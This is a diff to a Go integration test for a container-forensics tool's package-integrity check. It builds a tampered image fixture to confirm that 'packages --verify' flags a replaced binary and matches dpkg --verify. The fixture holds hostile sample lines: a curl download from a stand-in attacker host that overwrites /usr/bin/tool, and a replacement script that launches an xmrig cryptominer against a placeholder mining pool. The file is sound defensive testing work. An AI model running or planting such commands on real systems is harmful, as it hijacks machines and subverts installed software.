@@ -3,8 +3,11 @@ package integration
 import (
 	"bytes"
 	"context"
+	"crypto/md5"
+	"encoding/hex"
 	"encoding/json"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
@@ -170,9 +173,6 @@ mkdir -p /app/node_modules/evil && echo '{"name":"evil","version":"1.0.0","licen
 	if r := h.cli(t, "packages", "--verify", "--fail-on", "missing", "pkg-ctr"); r.code != 0 {
 		t.Errorf("--fail-on missing: exit %d (%s)", r.code, r.stderr)
 	}
-	if r := h.cli(t, "packages", "--verify", packagesImageName); r.code != 2 || !strings.Contains(r.stderr, "give a container") {
-		t.Errorf("--verify of an image: exit %d, %s", r.code, r.stderr)
-	}
 	if all := h.mustCLI(t, "packages", "--verify", "--all", "--format", "json", "pkg-ctr"); !strings.Contains(all, `"/etc/issue"`) {
 		t.Errorf("--all:\n%s", all)
 	}
@@ -232,5 +232,142 @@ mkdir -p /app/node_modules/evil && echo '{"name":"evil","version":"1.0.0","licen
 	}
 	if r := h.cli(t, "packages", "--format", "xml", packagesImageName); r.code != 2 {
 		t.Errorf("bad format: exit %d", r.code)
+	}
+}
+
+// Names of the images of the package integrity tests.
+const (
+	toolsImageName    = "docker.io/ctrforensics/tools:1"
+	tamperedImageName = "docker.io/ctrforensics/tampered:1"
+)
+
+func md5Hex(s string) string {
+	sum := md5.Sum([]byte(s))
+	return hex.EncodeToString(sum[:])
+}
+
+// toolsImage is the web image with a package "tools" installed by dpkg in
+// one layer (two binaries and a conffile).
+func toolsImage(t *testing.T) *testimage.Image {
+	t.Helper()
+	web, err := testimage.WebImage(h.ctx(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	img := *web
+	img.Name = toolsImageName
+	status := "Package: tools\nStatus: install ok installed\nPriority: optional\nSection: utils\nInstalled-Size: 1\n" +
+		"Maintainer: nobody <nobody@example.org>\nArchitecture: amd64\nVersion: 1.0\n" +
+		"Conffiles:\n /etc/tools.conf " + md5Hex("level=1\n") + "\nDescription: tools\n\n"
+	img.Layers = append(slices.Clone(web.Layers),
+		testimage.Layer{CreatedBy: "dpkg -i tools.deb", Files: []testimage.File{
+			testimage.Dir("/etc", 0o755), testimage.Reg("/etc/tools.conf", 0o644, "level=1\n"),
+			testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
+			testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\necho tool\n"),
+			testimage.Reg("/usr/bin/other", 0o755, "#!/bin/sh\necho other\n"),
+			testimage.Dir("/var", 0o755), testimage.Dir("/var/lib", 0o755), testimage.Dir("/var/lib/dpkg", 0o755),
+			testimage.Dir("/var/lib/dpkg/info", 0o755),
+			testimage.Reg("/var/lib/dpkg/status", 0o644, status),
+			testimage.Reg("/var/lib/dpkg/info/tools.list", 0o644, "/etc\n/etc/tools.conf\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/other\n"),
+			testimage.Reg("/var/lib/dpkg/info/tools.md5sums", 0o644, md5Hex("#!/bin/sh\necho tool\n")+"  usr/bin/tool\n"+
+				md5Hex("#!/bin/sh\necho other\n")+"  usr/bin/other\n"),
+		}})
+	return &img
+}
+
+// tamperedImage is toolsImage with one more layer that replaces one of the
+// package's binaries with a miner's launcher, as the article's attacker
+// would, without dpkg.
+func tamperedImage(t *testing.T) *testimage.Image {
+	t.Helper()
+	img := toolsImage(t)
+	img.Name = tamperedImageName
+	img.Layers = append(img.Layers, testimage.Layer{CreatedBy: "curl -fsSL http://evil.example/x -o /usr/bin/tool", Files: []testimage.File{
+		testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
+		testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\nexec /tmp/.x/xmrig -o stratum+tcp://pool.example:3333\n"),
+	}})
+	return img
+}
+
+// TestPackagesVerifyImage: packages --verify of an image reads the image's
+// layers (nothing mounted) and reports the binary a later layer replaced,
+// not the intact one; the results equal dpkg --verify --root on the image's
+// final filesystem exported and extracted, in every output format.
+func TestPackagesVerifyImage(t *testing.T) {
+	ctx := h.ctx(t)
+	if _, err := testdaemon.ImportImage(ctx, h.client, tamperedImage(t), "overlayfs"); err != nil {
+		t.Fatal(err)
+	}
+	table := h.mustCLI(t, "packages", "--verify", tamperedImageName)
+	t.Logf("packages --verify %s:\n%s", tamperedImageName, table)
+	got := map[string]string{}
+	for _, l := range strings.Split(strings.TrimSpace(h.mustCLI(t, "packages", "--verify", "--format", "json", tamperedImageName)), "\n") {
+		var r struct{ Path, Status, Package, Expected, Actual string }
+		if err := json.Unmarshal([]byte(l), &r); err != nil {
+			t.Fatal(err)
+		}
+		got[r.Path] = r.Status + " " + r.Package
+		if r.Path == "/usr/bin/tool" && (r.Expected != md5Hex("#!/bin/sh\necho tool\n") || r.Actual == r.Expected) {
+			t.Errorf("/usr/bin/tool digests: %+v", r)
+		}
+	}
+	want := map[string]string{"/usr/bin/tool": "modified tools", "/usr/bin/other": "ok tools", "/etc/tools.conf": "ok tools"}
+	if len(got) != len(want) {
+		t.Errorf("results %v, want %v", got, want)
+	}
+	for p, w := range want {
+		if got[p] != w {
+			t.Errorf("%s: %q, want %q", p, got[p], w)
+		}
+	}
+	if !strings.Contains(table, "modified") || !strings.Contains(table, "/usr/bin/tool") {
+		t.Errorf("table:\n%s", table)
+	}
+	sarifOut := h.mustCLI(t, "packages", "--verify", "--format", "sarif", tamperedImageName)
+	schemacheck.ValidateSARIF(t, []byte(sarifOut))
+	var sarif struct {
+		Runs []struct {
+			Results []struct {
+				RuleID     string
+				Properties map[string]any
+			}
+		}
+	}
+	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil || len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) != 1 ||
+		sarif.Runs[0].Results[0].RuleID != "CTRF-PKG-001" {
+		t.Errorf("SARIF (%v): %+v", err, sarif)
+	}
+	if r := h.cli(t, "packages", "--verify", "--fail-on", "modified", tamperedImageName); r.code != 1 {
+		t.Errorf("--fail-on modified: exit %d (%s)", r.code, r.stderr)
+	}
+	if r := h.cli(t, "packages", "--verify", "--fail-on", "missing", tamperedImageName); r.code != 0 {
+		t.Errorf("--fail-on missing: exit %d (%s)", r.code, r.stderr)
+	}
+
+	// The oracle: dpkg --verify on the final filesystem, extracted.
+	dir := t.TempDir()
+	archive, root := filepath.Join(dir, "fs.tar"), filepath.Join(dir, "root")
+	h.mustCLI(t, "image", "export", "-o", archive, tamperedImageName)
+	if err := os.Mkdir(root, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("tar", "--numeric-owner", "-C", root, "-xf", archive).CombinedOutput(); err != nil {
+		t.Fatalf("extract: %v\n%s", err, out)
+	}
+	out, _ := exec.Command("dpkg", "--root="+root, "--verify").Output()
+	var dpkg, ours []string
+	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
+		if f := strings.Fields(l); len(f) >= 2 {
+			dpkg = append(dpkg, f[len(f)-1])
+		}
+	}
+	for p, st := range got {
+		if !strings.HasPrefix(st, "ok ") {
+			ours = append(ours, p)
+		}
+	}
+	slices.Sort(ours)
+	if !slices.Equal(ours, dpkg) || len(dpkg) == 0 {
+		t.Errorf("flagged %v, dpkg --verify %v (%s)", ours, dpkg, out)
 	}
 }
